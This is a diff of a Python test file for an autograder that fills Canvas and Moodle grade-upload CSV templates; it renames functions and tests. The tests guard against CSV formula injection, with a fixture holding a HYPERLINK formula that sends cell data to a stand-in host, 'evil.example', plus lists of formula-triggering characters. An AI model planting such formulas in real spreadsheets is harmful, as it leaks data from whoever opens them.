@@ -12,9 +12,9 @@ from hypothesis import example, given, settings
 from hypothesis import strategies as st
 
 from autograder.class_folder.settings import ClassError
-from autograder.classroom.export import export, export_like
+from autograder.classroom.export import export, fill_template
 from autograder.classroom.grades import class_grades
-from autograder.intake.tables import defused, read_table, write_table
+from autograder.intake.tables import defuse_formulas, read_table, write_table
 
 EVIL = '=HYPERLINK("http://evil.example/"&A1,"click")'
 
@@ -79,7 +79,7 @@ CANVAS = """Student,ID,SIS User ID,SIS Login ID,Section,part 05 - The GPT (371),
 def test_a_canvas_template_is_filled_in_as_its_columns_are_named(found, tmp_path):
     template = tmp_path / "template.csv"
     template.write_text(CANVAS, encoding="utf-8-sig")
-    outcome = export_like(found, template, tmp_path)
+    outcome = fill_template(found, template, tmp_path)
     assert outcome.files == [tmp_path / "canvas-upload.csv"]
     assert rows(tmp_path / "canvas-upload.csv", "utf-8-sig") == [
         ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "part 05 - The GPT (371)"],
@@ -102,7 +102,7 @@ Participant 79,Zo\u00eb Garc\u00eda,another@example.org,No submission,,10.00,-,
 def test_a_moodle_worksheet_is_filled_in_for_one_part(found, tmp_path):
     template = tmp_path / "worksheet.csv"
     template.write_text(WORKSHEET, encoding="utf-8")
-    outcome = export_like(found, template, tmp_path, "part05")
+    outcome = fill_template(found, template, tmp_path, "part05")
     assert outcome.files == [tmp_path / "moodle-part05-upload.csv"]
     header, zoe, nobody, namesake = rows(tmp_path / "moodle-part05-upload.csv")
     assert header == WORKSHEET.splitlines()[0].split(",")
@@ -123,10 +123,10 @@ def test_a_moodle_worksheet_is_filled_in_for_one_part(found, tmp_path):
         (CANVAS.replace("part 05 - The GPT", "Homework"), None, "no column for an assignment"),
     ],
 )
-def test_a_template_that_cannot_be_filled_in_is_said(found, tmp_path, text, assignment, said):
+def test_a_template_that_cannot_be_filled_in_is_reported(found, tmp_path, text, assignment, said):
     (tmp_path / "template.csv").write_text(text, encoding="utf-8")
     with pytest.raises(ClassError, match=said):
-        export_like(found, tmp_path / "template.csv", tmp_path, assignment)
+        fill_template(found, tmp_path / "template.csv", tmp_path, assignment)
     assert [path.name for path in tmp_path.glob("*.csv")] == ["template.csv"]
 
 
@@ -134,8 +134,8 @@ def test_a_template_that_cannot_be_filled_in_is_said(found, tmp_path, text, assi
 def test_grades_are_scaled_to_the_maximum_of_the_platform(found, tmp_path, most, zoe):
     (tmp_path / "w.csv").write_text(WORKSHEET.replace("10.00", most), encoding="utf-8")
     (tmp_path / "c.csv").write_text(CANVAS.replace(",10,5,", f",{most},5,"), encoding="utf-8")
-    worksheet = export_like(found, tmp_path / "w.csv", tmp_path, "part05")
-    canvas = export_like(found, tmp_path / "c.csv", tmp_path)
+    worksheet = fill_template(found, tmp_path / "w.csv", tmp_path, "part05")
+    canvas = fill_template(found, tmp_path / "c.csv", tmp_path)
     assert rows(worksheet.files[0])[1][4] == zoe and rows(canvas.files[0], "utf-8-sig")[2][5] == zoe
     said = f"part05: 10 points here are {float(most):g} on the platform; grades are scaled to that."
     for outcome in (worksheet, canvas):
@@ -144,7 +144,7 @@ def test_grades_are_scaled_to_the_maximum_of_the_platform(found, tmp_path, most,
 
 def test_a_worksheet_gets_a_comment_where_nobody_has_written_one(found, tmp_path):
     (tmp_path / "w.csv").write_text(WORKSHEET.replace(",=1+1", ","), encoding="utf-8")
-    (path,) = export_like(found, tmp_path / "w.csv", tmp_path, "part05").files
+    (path,) = fill_template(found, tmp_path / "w.csv", tmp_path, "part05").files
     assert rows(path)[1][7] == "7.5 of 10 points, less 0.75 for late submission: 6.75."
     assert rows(path)[2][7] == "", "nobody knows who this is"
 
@@ -153,7 +153,7 @@ def test_canvas_s_row_of_posting_policies_is_no_person(found, tmp_path):
     (tmp_path / "c.csv").write_text(
         CANVAS.replace("    Points", ",,,,,Manual Posting,Manual Posting,\n    Points"), encoding="utf-8"
     )
-    outcome = export_like(found, tmp_path / "c.csv", tmp_path)
+    outcome = fill_template(found, tmp_path / "c.csv", tmp_path)
     assert not any("Line 2 " in remark for remark in outcome.remarks)
 
 
@@ -182,7 +182,7 @@ DANGEROUS = "=+-@\uff1d\uff0b\uff0d\uff20"
 @example("Lee;=1+1")
 @example('"=1+1')
 def test_no_cell_begins_a_formula_whatever_the_program_splits_at(text):
-    safe = defused(text)
+    safe = defuse_formulas(text)
     assert not any(character in safe for character in "\t\r\n\0")
     for separator in ";,|":
         for piece in safe.split(separator):
@@ -195,14 +195,14 @@ def test_a_cell_that_is_written_and_read_again_is_one_cell(tmp_path_factory, tex
     path = tmp_path_factory.mktemp("cells") / "a.csv"
     write_table(path, [["one", "two"], [text, -1.5]])
     header, *rest = rows(path)
-    written = text if text == "-" else defused(text)  # Moodle's sign for nothing is not a formula
+    written = text if text == "-" else defuse_formulas(text)  # Moodle's sign for nothing is not a formula
     assert rest == [[written, "-1.5"]], "numbers of ours may be negative"
 
 
 @settings(deadline=None)
 @given(st.text(st.characters(codec="utf-8", categories=["L", "N"]), min_size=1, max_size=20))
 def test_names_without_marks_are_left_as_they_are(name):
-    assert defused(name) == name and defused(f"{name}-{name}@{name}") == f"{name}-{name}@{name}"
+    assert defuse_formulas(name) == name and defuse_formulas(f"{name}-{name}@{name}") == f"{name}-{name}@{name}"
 
 
 def test_any_bytes_are_a_table_or_a_sentence(tmp_path):
